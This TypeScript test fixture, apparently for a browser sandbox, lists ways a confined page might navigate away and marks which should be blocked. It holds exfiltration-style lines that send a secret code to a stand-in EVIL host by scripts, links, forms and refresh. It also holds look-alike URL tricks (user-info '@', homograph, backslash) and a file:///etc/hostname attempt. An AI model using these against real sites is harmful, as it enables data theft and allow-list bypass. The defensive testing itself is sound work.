import { click, type Attempt } from './attempt.ts';

const secret = 'EVIL + "/stolen?code=secret"';

const away = (name: string, code: string): Attempt => ({
  name,
  code,
  blocked: ['navigate', 'EVIL_HOST'],
  told: true,
});

/** The page goes to another host, by all the ways there are. */
const toAnotherHost: readonly Attempt[] = [
  away('by a script', `location.href = ${secret};`),
  away('by replacing itself', `location.replace(${secret});`),
  away('by the navigation API', `navigation.navigate(${secret});`),
  away('by a link', click('<a id="bait" href="${EVIL}/stolen?code=secret">x</a>')),
  away('by a link to the top', click('<a id="bait" target="_top" href="${EVIL}/x">x</a>')),
  away(
    'by a form',
    click('<form method="post" action="${EVIL}/stolen?code=secret"><button id="bait">x</button></form>'),
  ),
  away(
    'by a refresh',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + ${secret} + '">');`,
  ),
  away('out of a click that was delayed', `setTimeout(() => { location.href = ${secret}; }, 50);`),
];

/** Allowed servers that send the page on. */
const byRedirect: readonly Attempt[] = ['/redirect', '/hop?3', '/redirect?307'].map((address) => ({
  name: `by a redirect of an allowed server: ${address}`,
  code: address.endsWith('307')
    ? click(`<form method="post" action="${address}"><button id="bait">x</button></form>`)
    : `location.href = '${address}';`,
  blocked: ['redirect', 'EVIL_HOST'],
  told: true,
}));

const lookAlike = (name: string, address: string, host: string): Attempt => ({
  name: `to a look-alike: ${name}`,
  code: `location.href = ${address};`,
  blocked: ['navigate', host],
  told: true,
});

/** Addresses that read like the allowed one. */
const toLookAlikes: readonly Attempt[] = [
  lookAlike('the allowed host as a user name', '"https://" + HERE_HOST + "@" + EVIL_HOST + "/"', 'EVIL_HOST'),
  lookAlike('a user name before the allowed host', '"https://evil@" + HERE_HOST + "/"', 'HERE_HOST'),
  lookAlike('a dot at its end', 'HERE.replace("localhost", "localhost.") + "/"', 'HERE_DOT'),
  lookAlike('its number', 'HERE.replace("localhost", "127.0.0.1") + "/"', 'HERE_NUMBER'),
  lookAlike('its number in six', 'HERE.replace("localhost", "[::1]") + "/"', 'HERE_SIX'),
  lookAlike('no encryption', 'HERE.replace("https", "http") + "/"', 'HERE_HOST'),
  lookAlike('no port', '"https://localhost/"', 'localhost'),
  lookAlike('another name after it', '"https://localhost.evil.example/"', 'localhost.evil.example'),
  lookAlike('another name before it', '"https://evil-localhost/"', 'evil-localhost'),
  lookAlike('letters of another alphabet', '"https://lоcalhost/"', 'xn--lcalhost-nbh'),
  lookAlike('a backslash', '"https:\\\\\\\\" + EVIL_HOST + "\\\\@" + HERE_HOST', 'EVIL_HOST'),
];

/** Documents that the page makes itself. */
const toOwnDocuments: readonly Attempt[] = [
  {
    name: 'to a blob',
    code: 'location.href = URL.createObjectURL(new Blob(["x"], { type: "text/html" }));',
    blocked: ['navigate', 'blob:'],
    told: true,
  },
  {
    name: 'to emptiness',
    code: 'location.href = "about:blank";',
    blocked: ['elsewhere', 'about:'],
    told: true,
  },
];

/** Addresses that Chromium stops by itself, or that belong to other programs. */
const toOtherSchemes: readonly Attempt[] = [
  ...['data:text/html,x', 'file:///etc/hostname', 'chrome://version/', 'view-source:https://localhost/'],
  ...['javascript:document.title=1', 'filesystem:https://localhost/temporary/x'],
].map((address) => ({
  name: `to ${address}`,
  code: `try { location.href = '${address}'; } catch {}`,
  blocked: null,
}));

const toPrograms: readonly Attempt[] = [
  ...[
    'mailto:x@example.com',
    'tel:123',
    'ms-settings:',
    'intent://x',
    'tapdesk://x',
    'ssh://x',
    'app://desk/',
  ],
].flatMap((address): readonly Attempt[] => [
  { name: `to a program: ${address}`, code: `location.href = '${address}';`, blocked: null },
  {
    name: `to a program by a link: ${address}`,
    code: click(`<a id="bait" href="${address}">x</a>`),
    blocked: null,
  },
]);

const byHistory: readonly Attempt[] = [
  {
    name: 'with an address of another host in its history',
    code: `try { history.pushState({}, '', EVIL); return 'pushed'; } catch (error) { return error.name; }`,
    blocked: null,
    answer: 'SecurityError',
  },
  {
    name: 'back past where it began',
    code: `history.back(); history.go(-5); history.forward();`,
    blocked: ['elsewhere', 'about:'],
    told: true,
  },
];

export const leaving: readonly Attempt[] = [
  ...toAnotherHost,
  ...byRedirect,
  ...toLookAlikes,
  ...toOwnDocuments,
  ...toOtherSchemes,
  ...toPrograms,
  ...byHistory,
];
